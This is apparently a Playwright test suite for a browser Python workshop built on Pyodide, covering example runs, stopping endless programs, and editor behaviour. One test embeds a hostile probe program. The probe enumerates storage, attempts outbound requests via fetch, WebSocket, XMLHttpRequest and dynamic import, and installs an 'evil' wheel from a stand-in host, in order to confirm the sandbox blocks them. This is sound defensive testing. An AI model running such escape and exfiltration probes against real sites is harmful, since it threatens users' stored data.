"""The Python workshop: micropip installs the published wheel, the examples run, a program without end is stopped.

Programs are passed around, so one may be hostile: it finds neither the saved games nor a way out.
"""

import http.server
import re
import threading
from collections.abc import Iterator

import pytest
from conftest import Site
from playwright.sync_api import Locator, Page, expect

PATIENCE = 90_000  # milliseconds: all of Python and micropip start

# Every way known out of a worker, or to what the site keeps; each says what came of it.
HOSTILE = """
import js
from pyodide.code import run_js
from pyodide.ffi import to_js

async def tried(name, way):
    try:
        found = way()
        if hasattr(found, "then"):
            found = await found
        print(name, "→", found)
    except BaseException as error:
        print(name, "✗", type(error).__name__)

there = [name for name in
    "window document localStorage sessionStorage caches indexedDB Worker SharedWorker BroadcastChannel".split()
    if hasattr(js, name)]
there += [name for name in "locks serviceWorker storage".split() if getattr(js.navigator, name, None) is not None]
print("portes :", there)
owner = js.self
while owner:
    described = js.Object.getOwnPropertyDescriptor(owner, "caches")
    print("encore" if described else "rien")
    owner = js.Object.getPrototypeOf(owner)
elsewhere, blind = "{elsewhere}", to_js({{"mode": "no-cors"}}, dict_converter=js.Object.fromEntries)
await tried("fetch", lambda: js.fetch(elsewhere + "fetch", blind))
await tried("EventSource", lambda: js.EventSource.new(elsewhere + "events"))
await tried("WebSocket", lambda: js.WebSocket.new(elsewhere.replace("http", "ws") + "socket"))
await tried("FontFace", lambda: js.FontFace.new("f", "url(" + elsewhere + "font)").load())
await tried("XMLHttpRequest", lambda: (x := js.XMLHttpRequest.new(), x.open("GET", elsewhere + "xhr", False), x.send()))
await tried("eval", lambda: run_js("1 + 1"))
await tried("import", lambda: run_js("import('" + elsewhere + "module.js')"))
try:
    import micropip
    await micropip.install(elsewhere + "evil-1.0-py3-none-any.whl")
    print("micropip → installé")
except BaseException as error:
    print("micropip ✗", type(error).__name__)
print("fini")
"""


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """Somebody else's host: its address, and all that it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", asked
    server.shutdown()
    server.server_close()


def editor(page: Page) -> Locator:
    """Where one writes, once it has come."""
    field = page.locator("[data-part=program]")
    expect(field).to_be_visible()
    return field


def written(field: Locator) -> str:
    lines = field.locator(".cm-line").evaluate_all("(lines) => lines.map((line) => line.textContent)")
    return "\n".join(lines)


def run(page: Page, program: str) -> None:
    editor(page).press("ControlOrMeta+a")
    page.keyboard.insert_text(program)
    page.locator("[data-part=run]").click()


def test_an_example_takes_no_program_away(page: Page, site: Site) -> None:
    page.goto(site.url("atelier/"))
    field, own = page.locator(".cm-content"), page.locator("[data-part=own]")
    expect(own).to_be_hidden()
    field.click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text("mine = 1")
    for number in (1, 2):
        page.locator(f"[data-example='{number}']").click()
    page.reload()
    expect(field).not_to_contain_text("mine = 1")
    own.click()
    expect(field).to_have_text("mine = 1")


def test_the_examples_run_and_an_endless_program_is_stopped(page: Page, site: Site) -> None:
    page.goto(site.url("atelier/"))
    state, output = page.locator("[data-part=state]"), page.locator("[data-part=output]")
    for number, shown in enumerate(("Permutation", "Points :", "<picture>")):
        page.locator(f"[data-example='{number}']").click()
        page.locator("[data-part=run]").click()
        expect(state).to_have_text("Terminé.", timeout=PATIENCE)
        if shown == "<picture>":
            expect(output.locator("img")).to_be_visible()
            output.locator("img").evaluate("(image) => image.decode()")  # fails where there is no picture
        else:
            expect(output).to_contain_text(shown)
    run(page, "1/0")
    expect(output).to_contain_text("ZeroDivisionError")
    run(page, "while True: pass")
    page.locator("[data-part=stop]").click()
    expect(state).to_have_text("Arrêté.")
    run(page, "print(6 * 7)")
    expect(output).to_contain_text("42", timeout=PATIENCE)


def test_a_class_writes_asks_shows_and_is_judged(page: Page, site: Site) -> None:
    page.goto(site.url("atelier/"))
    state, output = (page.locator(f"[data-part={part}]") for part in ("state", "output"))
    code = editor(page)
    code.fill("")
    code.press_sequentially("def half(n):\nreturn n / 0\n")
    code.press("Shift+Tab")
    code.press_sequentially("display(input(), 1)\nhalf(1)")
    assert written(code) == "def half(n):\n    return n / 0\ndisplay(input(), 1)\nhalf(1)"
    page.reload()
    assert "half(1)" in written(editor(page)), "a draft survives"
    page.locator("details summary").click()
    page.locator("[data-part=answers]").fill("Ada")
    page.locator("[data-part=run]").click()
    expect(state).to_have_text("Le programme s’est arrêté sur une erreur.", timeout=PATIENCE)
    told = output.inner_text()
    assert "'Ada'" in told and 'File "<program>", line 4, in <module>' in told and "return n / 0" in told, told
    assert "_pyodide" not in told and "eval_code" not in told, told
    page.get_by_role("button", name="Exercice 1").click()
    page.locator("[data-part=run]").click()
    expect(output).to_contain_text("1 ★ 12/12", timeout=PATIENCE)
    run(page, "from pygames_core import GAMES\ndisplay(GAMES['poldr'].start(), GAMES['poldr'].start())")
    expect(output.locator("img")).to_have_count(2)


def test_tab_leaves_the_program_after_escape(page: Page, site: Site) -> None:
    page.goto(site.url("atelier/"))
    code = editor(page)
    code.press("ControlOrMeta+a")
    page.keyboard.type("a = 1")  # over what was there, without its look
    code.press("Tab")
    expect(code).to_be_focused()
    assert written(code) == "    a = 1"
    code.press("Escape")
    code.press("Tab")
    expect(code).not_to_be_focused()


def test_names_are_proposed_and_told_apart(page: Page, site: Site) -> None:
    page.goto(site.url("atelier/"))
    code, proposed = editor(page), page.get_by_role("listbox", name="Propositions")
    code.fill("")
    code.press_sequentially("def choisir(obs):\nobs.leg")
    expect(proposed.get_by_role("option", name="legal")).to_be_visible()
    code.press("Tab")
    assert written(code) == "def choisir(obs):\n    obs.legal"
    code.press_sequentially("()\npri")
    expect(proposed).to_be_visible()
    code.press("Enter")
    assert written(code).splitlines()[2:] == ["    pri", "    "], "a line ends where Enter says so"
    colours = code.locator(".cm-line span").evaluate_all(
        "(all) => all.filter((span) => ['def', 'choisir'].includes(span.textContent))"
        ".map((span) => getComputedStyle(span).color)"
    )
    assert len(set(colours)) == 2, colours


@pytest.mark.allows("errors")
def test_one_can_write_before_and_without_the_editor(page: Page, site: Site) -> None:
    page.route(re.compile(r"/atelier-editor\.js$"), lambda route: route.abort())
    page.goto(site.url("atelier/"))
    page.locator("[data-part=code]").fill("print(6 * 7)")
    page.locator("[data-part=run]").click()
    expect(page.locator("[data-part=output]")).to_contain_text("42", timeout=PATIENCE)
    page.reload()
    expect(page.locator("[data-part=code]")).to_have_value("print(6 * 7)")


@pytest.mark.allows("errors")
def test_a_program_finds_no_saved_game_and_no_way_out(page: Page, site: Site, listener: tuple[str, list[str]]) -> None:
    elsewhere, asked = listener
    page.goto(site.url("atelier/"))
    page.evaluate("localStorage.setItem('ludotheque:save:s1', 'secret')")
    run(page, HOSTILE.format(elsewhere=elsewhere))
    output = page.locator("[data-part=output]")
    expect(output).to_contain_text("fini", timeout=PATIENCE)
    told = output.inner_text()
    assert "portes : []" in told and "encore" not in told and "secret" not in told, told
    assert asked == [], told


@pytest.mark.allows("errors")
def test_a_program_under_which_python_breaks_ends_in_a_word(page: Page, site: Site) -> None:
    page.goto(site.url("atelier/"))
    state = page.locator("[data-part=state]")
    run(page, "import os\nprint('avant')\nos.abort()")
    expect(state).to_contain_text("Python s’est arrêté", timeout=PATIENCE)
    expect(page.locator("[data-part=stop]")).to_be_hidden()
    run(page, "print(6 * 7)")
    expect(page.locator("[data-part=output]")).to_contain_text("42", timeout=PATIENCE)
